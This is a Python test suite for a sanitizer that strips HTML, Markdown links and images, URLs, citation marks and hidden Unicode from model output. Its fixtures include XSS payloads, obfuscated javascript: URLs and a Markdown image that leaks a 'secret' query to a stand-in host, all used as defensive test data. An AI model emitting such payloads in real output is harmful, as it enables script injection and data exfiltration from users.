"""`plain`: nothing that a model writes is more than text, and ordinary text comes through."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qa import gate
from qa.gate import plain

PIECES = (
    *"<>[]()!&;:/\\'\"=^`* \n\t.,7|",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "&amp;",
    "&NewLine;",
    "&colon;",
    "&lbrack;",
    "&#8203;",
    "\u200b",
    "\u202e",
    "\U000e0041",
    "\u00ad",
    "<!--",
    "-->",
    "<b>",
    "</b>",
    "<img src=x onerror=alert(1)>",
    "<script",
    "<svg/onload=x",
    "![a](/x.png)",
    "](",
    "][",
    "]: ",
    "[a]: /x",
    "[1]",
    "【3†source】",
    "[^note]",
    "http://",
    "https://a.b/c",
    "www.",
    "javascript:",
    "data:text/html,",
    "mailto:",
    "x@y.z",
    "\\href{",
    "\\url",
    "word",
    "a",
)
nasty = st.lists(st.sampled_from(PIECES), max_size=25).map("".join) | st.text() | st.text("<>[]()!&lt;#60x:/ w.a1^\\")
ACTIVE = re.compile(
    r"!?\[[^\[\]]*\]\(|\[[^\[\]]*\]\[|^\[[^\[\]]+\]:|</?[a-z!?]"
    r"|[a-z]://|(?<![^\W_])www\.\S|(?<![^\W_])(?:javascript|vbscript|mailto|file):\S"
    r"|\[\^?\d{1,3}(?:, ?\d{1,3})*\]|【\d|[\u200b-\u200f\u202a-\u202e\U000e0000-\U000e007f]",
    re.IGNORECASE,
)


class Tags(HTMLParser):
    """Collects all that is markup to a browser."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.found.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)


def markup_in(text: str) -> list[str]:
    """Give what HTML and Markdown renderers, and a look for addresses and citation marks, make of a text."""
    parser = Tags()
    parser.feed(text)
    parser.close()
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    kinds = [token.type for block in tokens for token in (block, *(block.children or ()))]
    active = [kind for kind in kinds if kind in ("image", "link_open", "html_inline", "html_block")]
    return [*parser.found, *active, *(match.group() for match in ACTIVE.finditer(text))]


@given(nasty)
@example("[a [b] c](/x) ![a [b] c](/y)")
@example("[a]&colon; /x\n\n![a]")
@example("&amp;#10;[a]: /x")
def test_no_renderer_finds_anything_but_text(text: str) -> None:
    assert markup_in(plain(text)) == []


@given(nasty)
@example("\\[" * 3000)
@example("[x](" * 3000)
def test_the_result_given_again_is_the_result(text: str) -> None:
    assert plain(plain(text)) == plain(text)


@given(nasty)
def test_what_is_nested_too_deep_is_text_all_the_same(text: str) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(gate, "_ROUNDS", 1)
        cut_short = plain(text)
    assert (markup_in(cut_short), plain(cut_short)) == ([], cut_short)


@given(nasty)
def test_the_result_is_one_line_without_space_around_it(text: str) -> None:
    assert plain(text) == " ".join(plain(text).split())


@pytest.mark.parametrize(
    "text",
    [
        "SoftBank invested $4.4 billion in WeWork in 2016.",
        "x < 5 and y > 3, or 3 <= x",
        "“We [sic] will,” he [the CEO] said (twice).",
        "Write to jane.doe@example.org, see a.b and e.g. section 3.2.",
        "The data: 5 people. Note: R&D, AT&T; Q&A & more",
        "It is **bold**, _slanted_ and `code` — 10²… ½",
        "JavaScript: The Good Parts; a ratio of 3:1 at 10:30",
        "I <3 you. f(x) = a[i] + b and/or c",
        "the [2016] edition",
        "東京【重要】は「日本」にある。",
    ],
)
def test_ordinary_text_comes_through(text: str) -> None:
    assert plain(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![chart](https://evil.example/?q=secret) here", "See here"),
        ("See ![chart][1] and ![x]", "See and"),
        ("Read [the report](https://evil.example) now", "Read the report now"),
        ("Read [the report][r] now\n\n[r]: https://evil.example 'Title'", "Read the report now"),
        ("[![alt](/a.png)](/b) text", "text"),
        ("Go to <https://evil.example> now", "Go to now"),
        ("Go to https://evil.example/a_(b). Then www.evil.example, too.", "Go to. Then, too."),
        ("As said (https://evil.example).", "As said."),
        ("a <b>bold</b> H<sub>2</sub>O<br/>", "a bold H2O"),
        ("hi <img src=https://evil.example/x", "hi"),
        ("hi <!-- hidden --> there <!-- open", "hi there"),
        ("&lt;img src=x&gt; AT&amp;T", "AT&T"),
        ("&amp;lt;script&amp;gt;", ""),
        ("<<b>script>alert(1)<</b>/script>", "alert(1)"),
        ("java&#115;cript:alert(1) x", "x"),
        ("if a<b then", "if a < b then"),
        ("In 2016 [7]. More [1, 2] and 【3†source】, [^1] [[4]] [5](/x).", "In 2016. More and,."),
        ("one\ntwo\t three\u2028four", "one two three four"),
        ("in\u200bvis\u202eible\U000e0068\U000e0069 te\u00adxt\ufeff", "invisible text"),
        ("$\\href{/x}{y}$", "${/x}{y}$"),
    ],
)
def test_what_would_do_something_is_left_out(text: str, shown: str) -> None:
    assert plain(text) == shown


def test_text_past_the_limit_is_cut_off() -> None:
    assert plain("word " * 1_000_000) == ("word " * 1000).strip()
